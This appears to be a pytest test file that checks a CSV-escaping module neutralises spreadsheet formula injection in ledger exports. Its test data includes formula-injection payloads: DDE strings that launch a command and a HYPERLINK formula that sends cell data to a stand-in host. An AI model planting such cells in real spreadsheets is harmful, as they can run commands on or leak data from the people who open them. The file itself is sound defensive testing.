"""CSV cells a spreadsheet would run as formulas are written as text (issue 15, item 7):
``= + - @`` and tab/CR at the start get a leading ``'``; numbers stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from infra.ledger_doc import ledger_csv
from ostwatch.csv_safe import safe_cell, writer
from tests.unit.test_audit import DOCUMENT

ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1)',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_becomes_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.5", "+3", "-1e-3", -50.0, 0, "TF-01", "Lục Ngạn", None])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_the_ledger_csv_escapes_names_and_keeps_figures() -> None:
    hostile = {**DOCUMENT, "facility_id": "=1+1", "facility_name": ATTACKS[0]}
    hostile["items"] = [{**DOCUMENT["items"][0], "item_name": ATTACKS[4]}]
    [row] = list(csv.DictReader(io.StringIO(ledger_csv(hostile))))
    assert row["facility_id"] == "'=1+1" and row["facility_name"] == "'" + ATTACKS[0]
    assert row["transfer_out"] == "-50.0" and row["count_differences"] == "-1.25"


def test_the_plain_writer_escapes_too() -> None:
    out = io.StringIO()
    writer(out).writerows([["old_ref", "new_ref"], ["=evil()", -1]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["old_ref", "new_ref"],
        ["'=evil()", "-1"],
    ]


def test_a_quoted_cell_reads_back_as_written() -> None:
    from ostwatch.csv_safe import plain_cell, safe_cell

    for value in ["=1+1", "-abc_123", "@SUM(A1)", "plain", "-12.5"]:
        assert plain_cell(str(safe_cell(value))) == value
